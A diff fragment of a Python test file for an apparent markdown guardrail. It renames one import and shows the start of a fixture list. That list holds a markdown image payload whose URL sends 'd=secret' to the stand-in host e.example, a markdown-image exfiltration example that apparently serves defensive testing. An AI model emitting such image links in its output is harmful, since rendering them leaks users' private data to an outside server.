@@ -8,7 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from shared.guard import unloading
+from shared.guardrails import unloading
 
 LOADING = [
     "![house](https://e.example/p?d=secret)",
